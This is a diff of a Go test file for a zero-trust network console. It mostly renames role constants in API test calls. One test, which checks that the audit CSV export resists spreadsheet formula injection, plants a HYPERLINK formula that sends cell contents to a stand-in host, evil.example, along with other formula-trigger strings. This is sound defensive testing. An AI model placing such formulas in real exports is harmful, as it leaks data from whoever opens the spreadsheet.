@@ -13,6 +13,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/gonaut/gonaut/apps/console/internal/domain"
 	"github.com/gonaut/gonaut/apps/console/internal/store"
 	"github.com/gonaut/gonaut/ztna/controlplane"
 )
@@ -63,12 +64,12 @@ func TestControlPlaneLoopback(t *testing.T) {
 	c := startConsole(t, e.st, addr)
 
 	var created gatewayCreated
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
+	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
 	var u store.User
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Groups: []string{"eng"}, Password: "correct horse battery"}, 201, &u)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Groups: []string{"eng"}, Password: "correct horse battery"}, 201, &u)
 	var en Enrolment
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "laptop", Owner: u.ID}, 201, &en)
-	e.mustCall(store.RolePolicyEditor, "PUT", "/api/v1/policies/wiki", draft{Source: goodPolicy}, 200, nil)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "laptop", Owner: u.ID}, 201, &en)
+	e.mustCall(domain.RolePolicyEditor, "PUT", "/api/v1/policies/wiki", draft{Source: goodPolicy}, 200, nil)
 
 	state := t.TempDir()
 	cl, err := controlplane.New("http://"+addr, &controlplane.Options{StateDir: state})
@@ -125,7 +126,7 @@ func TestControlPlaneLoopback(t *testing.T) {
 	time.Sleep(100 * time.Millisecond) // let the long poll start
 	disabled := true
 	start := time.Now()
-	e.mustCall(store.RoleOperator, "PATCH", "/api/v1/devices/"+en.Device.ID, devicePatch{Disabled: &disabled}, 200, nil)
+	e.mustCall(domain.RoleOperator, "PATCH", "/api/v1/devices/"+en.Device.ID, devicePatch{Disabled: &disabled}, 200, nil)
 	var lat time.Duration
 	for lat == 0 {
 		select {
@@ -205,7 +206,7 @@ func TestControlPlaneLoopback(t *testing.T) {
 	}
 
 	// A revoked gateway is refused.
-	e.mustCall(store.RoleOperator, "DELETE", "/api/v1/gateways/"+cred.GatewayID, nil, 204, nil)
+	e.mustCall(domain.RoleOperator, "DELETE", "/api/v1/gateways/"+cred.GatewayID, nil, 204, nil)
 	if _, err := cl.Bundle(ctx, 0, 0); !errors.Is(err, controlplane.ErrUnauthorized) {
 		t.Errorf("revoked gateway pulled a bundle: %v", err)
 	}
@@ -235,7 +236,7 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	hs := httptest.NewServer(e.srv)
 	t.Cleanup(hs.Close)
 	var created gatewayCreated
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
+	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
 	cl, err := controlplane.New(hs.URL, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -246,9 +247,9 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 		t.Fatal(err)
 	}
 	var u store.User
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Password: "correct horse battery"}, 201, &u)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Password: "correct horse battery"}, 201, &u)
 	var en Enrolment
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "before", Owner: u.ID}, 201, &en)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "before", Owner: u.ID}, 201, &en)
 	if !strings.Contains(en.Config, "<the gateway's public key>") || strings.Contains(en.Config, "DNS") {
 		t.Errorf("config before any status:\n%s", en.Config)
 	}
@@ -256,7 +257,7 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	if err := cl.PushStatus(ctx, controlplane.Status{PublicKey: key, Endpoint: "gw.example.com:51820", DNS: "10.77.0.1", Routes: []string{"10.77.0.1/32", "10.78.0.0/16"}}); err != nil {
 		t.Fatal(err)
 	}
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "after", Owner: u.ID}, 201, &en)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "after", Owner: u.ID}, 201, &en)
 	for _, want := range []string{"PublicKey = " + key, "Endpoint = gw.example.com:51820", "DNS = 10.77.0.1", "AllowedIPs = 10.77.0.1/32, 10.78.0.0/16"} {
 		if !strings.Contains(en.Config, want) {
 			t.Errorf("config lacks %q:\n%s", want, en.Config)
@@ -265,7 +266,7 @@ func TestEnrolmentFromGatewayStatus(t *testing.T) {
 	if err := e.st.SetSetting(ctx, SettingWGEndpoint, "vpn.example.com:443"); err != nil {
 		t.Fatal(err)
 	}
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "setting", Owner: u.ID}, 201, &en)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "setting", Owner: u.ID}, 201, &en)
 	if !strings.Contains(en.Config, "Endpoint = vpn.example.com:443") || !strings.Contains(en.Config, "PublicKey = "+key) {
 		t.Errorf("the endpoint setting did not win:\n%s", en.Config)
 	}
@@ -279,7 +280,7 @@ func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
 	e, base := listeningConsole(t, nil)
 
 	var created gatewayCreated
-	e.mustCall(store.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
+	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
 	cl, err := controlplane.New(base, &controlplane.Options{StateDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
@@ -291,14 +292,14 @@ func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
 		t.Fatal(err)
 	}
 	var u store.User
-	e.mustCall(store.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: store.RoleViewer, Password: "correct horse battery"}, 201, &u)
+	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Password: "correct horse battery"}, 201, &u)
 	formula := `=HYPERLINK("http://evil.example/?"&A1)`
 	if err := cl.Emit(controlplane.Event{Kind: "decision", Subject: u.ID, Resource: "-2+3", Effect: "deny", Rule: formula, Message: "@SUM(1)", Source: "+1+1", ID: formula}); err != nil {
 		t.Fatal(err)
 	}
 	waitPending(t, cl, 0)
 
-	resp := e.call(store.RoleAuditor, "GET", "/api/v1/audit/export?format=csv&action=decision", nil, nil)
+	resp := e.call(domain.RoleAuditor, "GET", "/api/v1/audit/export?format=csv&action=decision", nil, nil)
 	defer resp.Body.Close()
 	rows, err := csv.NewReader(resp.Body).ReadAll()
 	if err != nil {
